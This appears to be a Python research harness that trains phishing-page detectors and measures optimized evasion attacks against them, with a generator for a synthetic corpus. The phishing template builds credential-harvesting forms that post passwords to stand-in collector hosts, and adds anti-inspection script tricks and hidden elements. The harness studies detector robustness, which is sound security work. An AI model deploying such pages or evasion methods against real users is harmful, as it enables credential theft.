"""Experiment harness: corpus ingestion, splits, detector training and
calibration, baseline and optimized attacks, rate tables and
security-evaluation curves.

Corpus layout on disk: a root directory with benign/ and phishing/
subdirectories of HTML files, plus an optional urls.json sidecar mapping
relative paths to origin URLs. Files without a mapped URL get a synthetic
deterministic origin. A generator for a fully synthetic corpus is included
so the whole pipeline runs without any external dataset.
"""

from __future__ import annotations

import hashlib
import json
import random
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np

from . import manipulations as M
from .detectors import (ForestConfig, LogisticConfig, ModelDetector,
                        calibrate_threshold, train_lr, train_rf)
from .dom import HtmlPage, parse_html
from .features import extract_all
from .optimizer import AttackConfig, attack, wa_r_baseline


@dataclass(frozen=True)
class CorpusItem:
    path: Path
    label: int  # 0 benign, 1 phishing
    url: str

    def load(self) -> HtmlPage:
        return parse_html(self.path.read_bytes(), self.url)


@dataclass
class LabeledCorpus:
    items: list[CorpusItem]

    @property
    def benign(self) -> list[CorpusItem]:
        return [i for i in self.items if i.label == 0]

    @property
    def phishing(self) -> list[CorpusItem]:
        return [i for i in self.items if i.label == 1]


def _synthetic_origin(relpath: str) -> str:
    digest = hashlib.sha1(relpath.encode("utf-8")).hexdigest()[:8]
    return f"http://sample-{digest}.test/"


def ingest_corpus(root) -> LabeledCorpus:
    root = Path(root)
    url_map = {}
    sidecar = root / "urls.json"
    if sidecar.exists():
        url_map = json.loads(sidecar.read_text(encoding="utf-8"))
    items: list[CorpusItem] = []
    for label, sub in ((0, "benign"), (1, "phishing")):
        directory = root / sub
        if not directory.is_dir():
            raise ValueError(f"corpus is missing the {sub}/ directory: {directory}")
        files = sorted(p for p in directory.iterdir() if p.suffix in (".html", ".htm"))
        if not files:
            raise ValueError(f"corpus class {sub}/ is empty")
        for path in files:
            rel = f"{sub}/{path.name}"
            items.append(CorpusItem(path, label, url_map.get(rel) or _synthetic_origin(rel)))
    return LabeledCorpus(items)


def stratified_split(corpus: LabeledCorpus, ratio: float, seed: int):
    """Per-class shuffle and cut; deterministic for a fixed seed."""
    if not 0.0 < ratio < 1.0:
        raise ValueError("split ratio must be strictly between 0 and 1")
    rng = random.Random(seed)
    train: list[CorpusItem] = []
    test: list[CorpusItem] = []
    for group in (corpus.benign, corpus.phishing):
        shuffled = list(group)
        rng.shuffle(shuffled)
        cut = int(ratio * len(shuffled))
        train.extend(shuffled[:cut])
        test.extend(shuffled[cut:])
    if not train or not test:
        raise ValueError("split produced an empty train or test set")
    return LabeledCorpus(train), LabeledCorpus(test)


def feature_matrix(items: list[CorpusItem], provider=None):
    rows = [extract_all(item.load(), provider).as_list() for item in items]
    labels = [item.label for item in items]
    return np.asarray(rows, dtype=np.float64), np.asarray(labels, dtype=np.int64)


# ---------------------------------------------------------------------------
# synthetic fixture corpus
# ---------------------------------------------------------------------------

_BRANDS = ("skyline", "bluewave", "northgate", "oakfield", "silvermill",
           "redstone", "harborline", "greenhollow", "ironpeak", "clearbrook")

_TARGET_HOSTS = ("accounts.bigbank.test", "login.webmail.test",
                 "pay.cardservices.test", "secure.parcels.test")


def _benign_page(i: int, rng: random.Random) -> tuple[str, str]:
    brand = rng.choice(_BRANDS)
    domain = f"{brand}{i}.example"
    url = f"http://www.{domain}/"
    # Archetypes keep the benign class realistically messy: self-hosted
    # sites, CDN-heavy sites, marketing pages with third-party embeds, and
    # thin landing pages. Without the messy tail every model calibrates to
    # a degenerate near-zero threshold.
    roll = rng.random()
    archetype = ("corporate" if roll < 0.55 else
                 "cdn" if roll < 0.75 else
                 "messy" if roll < 0.90 else "minimal")

    cdn = f"https://cdn{rng.randint(1, 6)}.assets.test"
    external_assets = archetype == "cdn" or (archetype == "messy" and rng.random() < 0.5)

    nav_items = rng.sample(["home", "about", "products", "news", "contact",
                            "careers", "support", "blog", "pricing", "team",
                            "docs", "events"], rng.randint(5, 10))
    nav_links = [f'    <li><a href="/{p}">{p.title()}</a></li>' for p in nav_items]
    if archetype == "messy":
        nav_links += ['    <li><a href="#">More</a></li>'] * rng.randint(1, 2)
        nav_links += [f'    <li><a href="https://social{n}.test/{brand}">Follow</a></li>'
                      for n in range(rng.randint(1, 2))]
    nav = "\n".join(nav_links)

    n_imgs = rng.randint(2, 6) if archetype != "minimal" else rng.randint(0, 2)
    img_host = cdn if external_assets else ""
    imgs = "\n".join(
        f'  <img src="{img_host}/img/photo{n}.jpg" alt="photo">' for n in range(n_imgs)
    )

    if archetype == "messy" and rng.random() < 0.6:
        form = (
            f'  <form action="https://lists.mailrelay.test/subscribe/{brand}" method="post">\n'
            '    <input type="text" name="email">\n'
            '    <input type="hidden" name="list" value="weekly">\n'
            '    <button type="submit">Subscribe</button>\n'
            "  </form>\n"
        )
    elif archetype != "minimal" and rng.random() < 0.7:
        form = (
            '  <form action="/search" method="get">\n'
            '    <input type="text" name="q">\n'
            '    <button type="submit">Search</button>\n'
            "  </form>\n"
        )
    else:
        form = ""

    noisy_hidden = '  <input type="hidden" name="csrf" value="t0k3n">\n' \
        if rng.random() < 0.1 else ""
    banner = (
        '  <div style="display:none" id="cookie-banner"><p>We use cookies.</p></div>\n'
        if archetype == "messy" and rng.random() < 0.6 else ""
    )
    hidden_frame = (
        '  <iframe style="display:none" src="/stats/pixel"></iframe>\n'
        if rng.random() < 0.04 else ""
    )
    disabled_submit = (
        "  <button disabled>Send</button>\n" if rng.random() < 0.05 else ""
    )
    popup = (
        '<script>\nfunction promo() { window.open("/newsletter", "_blank"); }\n</script>\n'
        if archetype == "messy" and rng.random() < 0.5 else ""
    )
    # Benign UI code routinely swallows default events; legacy pages still
    # poke window.status. Both must exist on this side of the corpus too.
    ui_script = ""
    if rng.random() < 0.12:
        ui_script = ("<script>\ndocument.querySelector(\"form\") && "
                     "document.querySelector(\"form\").addEventListener(\"submit\", "
                     "function (e) { e.preventDefault(); validate(); });\n</script>\n")
    elif rng.random() < 0.04:
        ui_script = '<script>\nwindow.status = "Done";\n</script>\n'
    analytics = (
        f'<script src="{cdn}/js/analytics.js"></script>\n' if external_assets else
        '<script src="/js/app.js"></script>\n'
    )
    css_href = f"{cdn}/css/theme.css" if external_assets else "/css/style.css"
    favicon_href = f"{cdn}/favicon.ico" if external_assets and rng.random() < 0.5 \
        else "/favicon.ico"

    year = rng.randint(2015, 2024)
    if archetype == "minimal" and rng.random() < 0.4:
        notice = ""
    elif rng.random() < 0.12:
        notice = f"    <p>© {year} The Team</p>\n"
    else:
        # the registrable label, so the notice matches the page's own domain
        notice = f"    <p>© {year} {brand}{i} &mdash; all rights reserved</p>\n"

    if archetype == "minimal" and rng.random() < 0.5:
        footer = ""
    else:
        footer_links = "\n".join(
            f'    <a href="/{p}">{p}</a>' for p in rng.sample(
                ["privacy", "terms", "imprint", "sitemap", "cookies"], rng.randint(2, 4))
        )
        footer = f"  <footer>\n{footer_links}\n{notice}  </footer>\n"

    title = f"<title>Welcome to {domain}</title>" if rng.random() < 0.9 \
        else f"<title>{brand.title()} Portal</title>"
    html = f"""<!DOCTYPE html>
<html>
<head>
{title}
<meta charset="utf-8">
<link rel="stylesheet" href="{css_href}">
<link rel="icon" href="{favicon_href}">
{analytics}{popup}{ui_script}</head>
<body>
  <h1>{brand.title()}</h1>
  <ul>
{nav}
  </ul>
{imgs}
{form}{disabled_submit}{noisy_hidden}{banner}{hidden_frame}{footer}</body>
</html>
"""
    return url, html


def _phishing_page(i: int, rng: random.Random) -> tuple[str, str]:
    target = rng.choice(_TARGET_HOSTS)
    domain = f"verify-{rng.choice(_BRANDS)}{i}.test"
    url = f"http://{domain}/session/{rng.randint(100, 999)}"
    # Kit-style pages hotlink the spoofed brand's assets; lazy clones ship
    # downloaded assets and useless link stubs instead.
    archetype = "kit" if rng.random() < 0.7 else "lazy"

    action_roll = rng.random()
    if action_roll < 0.7:
        action = f"http://collector{rng.randint(1, 40)}.dropzone.test/post"
    elif action_roll < 0.9:
        action = ""
    else:
        action = "#"

    title = "" if rng.random() < 0.15 else "<title>Account Verification Required</title>\n"

    anchor_topics = rng.sample(["help", "security", "privacy", "contact", "locations",
                                "products", "terms", "accessibility"], rng.randint(3, 6))
    if archetype == "kit":
        anchors = "\n".join(f'  <a href="https://{target}/{p}">{p.title()}</a>'
                            for p in anchor_topics)
    else:
        anchors = "\n".join(f'  <a href="{rng.choice(["#", "#content", "javascript::void(0)"])}">{p.title()}</a>'
                            for p in anchor_topics)
    null_anchors = "\n".join('  <a href="#">Menu</a>' for _ in range(rng.randint(0, 2)))

    asset_host = f"https://{target}" if archetype == "kit" else ""
    logos = "\n".join(
        f'  <img src="{asset_host}/assets/logo{n}.png" alt="logo">'
        for n in range(rng.randint(1, 3))
    )
    css = f'<link rel="stylesheet" href="{asset_host or "."}/css/main.css">\n'
    favicon = (
        f'<link rel="shortcut icon" href="{asset_host or "."}/favicon.ico">\n'
        if rng.random() < 0.55 else ""
    )
    ext_script = (
        f'<script src="https://{target}/js/bundle.js"></script>\n'
        if archetype == "kit" and rng.random() < 0.7 else ""
    )

    tricks = []
    if rng.random() < 0.5:
        tricks.append('<script>\nwindow.open("http://' + domain + '/popup", "_self");\n</script>')
    if rng.random() < 0.35:
        tricks.append("<script>\ndocument.addEventListener(\"contextmenu\", "
                      "function (e) { e.preventDefault(); });\n</script>")
    if rng.random() < 0.3:
        tricks.append('<script>\nwindow.status = "Connecting securely...";\n</script>')

    hidden_div = (
        '  <div style="display:none">\n    <p>harvest</p>\n  </div>\n'
        if rng.random() < 0.45 else ""
    )
    hidden_iframe = (
        f'  <iframe style="visibility: hidden" src="http://tracker{rng.randint(1, 20)}.test/px"></iframe>\n'
        if rng.random() < 0.3 else ""
    )
    hidden_input = '    <input type="hidden" name="token" value="x91">\n' if rng.random() < 0.55 else ""
    disabled_btn = "  <button disabled>Continue</button>\n" if rng.random() < 0.25 else ""
    notice = "" if rng.random() < 0.5 else f"  <p>© {target.split('.')[1].title()} Inc.</p>\n"
    html = f"""<html>
<head>
{title}{css}{favicon}{ext_script}{"".join(t + chr(10) for t in tricks)}</head>
<body onload="document.forms[0] && document.forms[0].reset();">
  <h2>Confirm your identity</h2>
{logos}
{anchors}
{null_anchors}
  <form action="{action}" method="post">
    <label>Email</label>
    <input type="text" name="user">
    <label>Password</label>
    <input type="password" name="pass">
{hidden_input}    <button type="submit">Sign in</button>
  </form>
{hidden_div}{hidden_iframe}{disabled_btn}{notice}</body>
</html>
"""
    return url, html


def generate_synthetic_corpus(root, n_benign: int = 200, n_phishing: int = 100,
                              seed: int = 0) -> LabeledCorpus:
    """Write a deterministic template-generated corpus under root."""
    root = Path(root)
    rng = random.Random(seed)
    url_map: dict[str, str] = {}
    for label, sub, count, builder in (
            (0, "benign", n_benign, _benign_page),
            (1, "phishing", n_phishing, _phishing_page)):
        directory = root / sub
        directory.mkdir(parents=True, exist_ok=True)
        for i in range(count):
            url, html = builder(i, rng)
            name = f"{sub[0]}{i:05d}.html"
            (directory / name).write_text(html, encoding="utf-8")
            url_map[f"{sub}/{name}"] = url
    (root / "urls.json").write_text(json.dumps(url_map, indent=0, sort_keys=True),
                                    encoding="utf-8")
    return ingest_corpus(root)


# ---------------------------------------------------------------------------
# the experiment protocol
# ---------------------------------------------------------------------------

@dataclass
class ExperimentConfig:
    corpus_root: str
    split_ratio: float = 0.8
    sample_size: int = 100
    target_fpr: float = 0.01
    query_budget: int = 36
    seed: int = 0
    lr: LogisticConfig = field(default_factory=LogisticConfig)
    rf: ForestConfig | None = None

    def forest_config(self) -> ForestConfig:
        return self.rf or ForestConfig(seed=self.seed)


@dataclass
class DetectorReport:
    name: str
    threshold: float
    no_atk: float
    wa_r: float
    wa_r_hat: float
    optimized: float
    curve: list[float]
    test_accuracy: float

    def to_dict(self) -> dict:
        return self.__dict__.copy()


@dataclass
class EvaluationReport:
    detectors: dict[str, DetectorReport]
    sample_size: int
    query_budget: int
    sr_count: int
    mr_count: int
    rounds: int
    seed: int
    best_detector: str
    partial: bool = False

    def to_dict(self) -> dict:
        d = self.__dict__.copy()
        d["detectors"] = {k: v.to_dict() for k, v in self.detectors.items()}
        return d

    def to_json(self) -> str:
        return json.dumps(self.to_dict(), indent=2)

    def mean_curve(self) -> list[float]:
        names = sorted(self.detectors)
        columns = [self.detectors[n].curve for n in names]
        return [sum(vals) / len(vals) for vals in zip(*columns)]


def detection_rate(scores, threshold: float) -> float:
    scores = np.asarray(scores, dtype=np.float64)
    return float(np.mean(scores >= threshold)) if len(scores) else 0.0


def attack_sample(pages: list[HtmlPage], detector, config: AttackConfig):
    """Attack each page; returns (final_scores, per-query best histories)."""
    finals, histories = [], []
    for page in pages:
        result = attack(page, detector, config)
        finals.append(result.score)
        histories.append(result.trace.best_score_history)
    return finals, histories


def rate_curve(histories, threshold: float, n_queries: int) -> list[float]:
    """Detection rate per query index 0..n_queries, carrying each page's
    last best score forward when its trace ended early."""
    curve = []
    for q in range(n_queries + 1):
        flagged = [h[min(q, len(h) - 1)] >= threshold for h in histories if h]
        curve.append(sum(flagged) / len(flagged) if flagged else 0.0)
    return curve


def run_experiment(cfg: ExperimentConfig, progress=None) -> EvaluationReport:
    def log(msg):
        if progress:
            progress(msg)

    corpus = ingest_corpus(cfg.corpus_root)
    train, test = stratified_split(corpus, cfg.split_ratio, cfg.seed)
    log(f"corpus: {len(corpus.items)} pages, train {len(train.items)} / test {len(test.items)}")

    x_train, y_train = feature_matrix(train.items)
    x_test, y_test = feature_matrix(test.items)
    log("features extracted")

    models = {
        "lr": train_lr(x_train, y_train, cfg.lr),
        "rf": train_rf(x_train, y_train, cfg.forest_config()),
    }
    benign_train = x_train[y_train == 0]
    detectors = {}
    for name, model in models.items():
        threshold = calibrate_threshold(model.predict_proba(benign_train), cfg.target_fpr)
        detectors[name] = ModelDetector(model, threshold, name=name)
        log(f"{name}: threshold {threshold:.4f} at {cfg.target_fpr:.0%} FPR")

    test_acc = {
        name: float(np.mean((det.score_matrix(x_test) >= det.threshold) == (y_test == 1)))
        for name, det in detectors.items()
    }

    # Attack only phishing pages the strongest detector already catches.
    phish_idx = [i for i, item in enumerate(test.items) if item.label == 1]
    best_name = max(
        detectors,
        key=lambda n: detection_rate(
            detectors[n].score_matrix(x_test[phish_idx]), detectors[n].threshold),
    )
    best = detectors[best_name]
    eligible = [
        i for i in phish_idx
        if best.score_matrix(x_test[i:i + 1])[0] >= best.threshold
    ]
    rng = random.Random(cfg.seed)
    chosen = sorted(rng.sample(eligible, min(cfg.sample_size, len(eligible))))
    sample_items = [test.items[i] for i in chosen]
    sample_x = x_test[chosen]
    log(f"attacking {len(sample_items)} phishing pages (best detector: {best_name})")

    pages = [item.load() for item in sample_items]
    wa_pages = [wa_r_baseline(p, "fixed50") for p in pages]
    wa_hat_pages = [wa_r_baseline(p, "threshold_aware") for p in pages]
    wa_x = np.asarray([extract_all(p).as_list() for p in wa_pages])
    wa_hat_x = np.asarray([extract_all(p).as_list() for p in wa_hat_pages])

    attack_cfg = AttackConfig(query_budget=cfg.query_budget,
                              sr_set=M.default_sr_set(cfg.seed),
                              mr_set=M.default_mr_set(cfg.seed),
                              rng_seed=cfg.seed)

    reports = {}
    for name, det in detectors.items():
        finals, histories = attack_sample(pages, det, attack_cfg)
        reports[name] = DetectorReport(
            name=name,
            threshold=det.threshold,
            no_atk=detection_rate(det.score_matrix(sample_x), det.threshold),
            wa_r=detection_rate(det.score_matrix(wa_x), det.threshold),
            wa_r_hat=detection_rate(det.score_matrix(wa_hat_x), det.threshold),
            optimized=detection_rate(finals, det.threshold),
            curve=rate_curve(histories, det.threshold, cfg.query_budget),
            test_accuracy=test_acc[name],
        )
        log(f"{name}: no-atk {reports[name].no_atk:.2f}  wa_r {reports[name].wa_r:.2f}  "
            f"wa_r_hat {reports[name].wa_r_hat:.2f}  optimized {reports[name].optimized:.2f}")

    return EvaluationReport(
        detectors=reports,
        sample_size=len(sample_items),
        query_budget=cfg.query_budget,
        sr_count=len(attack_cfg.sr_set),
        mr_count=len(attack_cfg.mr_set),
        rounds=attack_cfg.derived_rounds,
        seed=cfg.seed,
        best_detector=best_name,
    )


# ---------------------------------------------------------------------------
# report emission
# ---------------------------------------------------------------------------

_SVG_COLORS = ("#1f77b4", "#d62728", "#2ca02c", "#9467bd", "#8c564b")


def curves_csv(report: EvaluationReport) -> str:
    names = sorted(report.detectors)
    lines = ["query_index,mean_detection_rate," + ",".join(names)]
    mean = report.mean_curve()
    for q in range(report.query_budget + 1):
        row = [str(q), repr(mean[q])]
        row += [repr(report.detectors[n].curve[q]) for n in names]
        lines.append(",".join(row))
    return "\n".join(lines) + "\n"


def curves_svg(report: EvaluationReport, width: int = 640, height: int = 420) -> str:
    """Self-contained line chart of detection rate vs queries, with the
    SR/MR phase boundary marked by a dotted vertical line."""
    left, right, top, bottom = 56, 16, 16, 44
    plot_w = width - left - right
    plot_h = height - top - bottom
    n_q = report.query_budget

    def sx(q):
        return left + plot_w * q / max(1, n_q)

    def sy(rate):
        return top + plot_h * (1.0 - rate)

    parts = [
        f'<svg xmlns="http://www.w3.org/2000/svg" width="{width}" height="{height}" '
        f'viewBox="0 0 {width} {height}">',
        f'<rect width="{width}" height="{height}" fill="white"/>',
        f'<line x1="{left}" y1="{top}" x2="{left}" y2="{top + plot_h}" stroke="black"/>',
        f'<line x1="{left}" y1="{top + plot_h}" x2="{left + plot_w}" y2="{top + plot_h}" stroke="black"/>',
    ]
    for tick in (0.0, 0.25, 0.5, 0.75, 1.0):
        y = sy(tick)
        parts.append(f'<line x1="{left - 4}" y1="{y:.1f}" x2="{left}" y2="{y:.1f}" stroke="black"/>')
        parts.append(f'<text x="{left - 8}" y="{y + 4:.1f}" text-anchor="end" font-size="11">{tick:.2f}</text>')
    for q in range(0, n_q + 1, max(1, n_q // 6)):
        x = sx(q)
        parts.append(f'<line x1="{x:.1f}" y1="{top + plot_h}" x2="{x:.1f}" y2="{top + plot_h + 4}" stroke="black"/>')
        parts.append(f'<text x="{x:.1f}" y="{top + plot_h + 18}" text-anchor="middle" font-size="11">{q}</text>')
    boundary = sx(report.sr_count)
    parts.append(
        f'<line x1="{boundary:.1f}" y1="{top}" x2="{boundary:.1f}" y2="{top + plot_h}" '
        'stroke="gray" stroke-dasharray="2,4"/>'
    )
    series = [("mean", report.mean_curve())] + [
        (name, report.detectors[name].curve) for name in sorted(report.detectors)
    ]
    for idx, (name, curve) in enumerate(series):
        color = _SVG_COLORS[idx % len(_SVG_COLORS)]
        points = " ".join(f"{sx(q):.2f},{sy(v):.2f}" for q, v in enumerate(curve))
        dash = ' stroke-dasharray="6,3"' if name == "mean" else ""
        parts.append(f'<polyline fill="none" stroke="{color}"{dash} points="{points}"/>')
        parts.append(
            f'<text x="{left + 8 + idx * 110}" y="{height - 8}" font-size="12" '
            f'fill="{color}">{name}</text>'
        )
    parts.append(
        f'<text x="{left + plot_w / 2:.0f}" y="{height - 26}" text-anchor="middle" '
        'font-size="12">queries</text>'
    )
    parts.append("</svg>")
    return "\n".join(parts) + "\n"


def emit_curves(report: EvaluationReport, out_dir) -> dict[str, Path]:
    out = Path(out_dir)
    out.mkdir(parents=True, exist_ok=True)
    paths = {
        "report": out / "report.json",
        "csv": out / "curves.csv",
        "svg": out / "curves.svg",
    }
    paths["report"].write_text(report.to_json() + "\n", encoding="utf-8")
    paths["csv"].write_text(curves_csv(report), encoding="utf-8")
    paths["svg"].write_text(curves_svg(report), encoding="utf-8")
    return paths
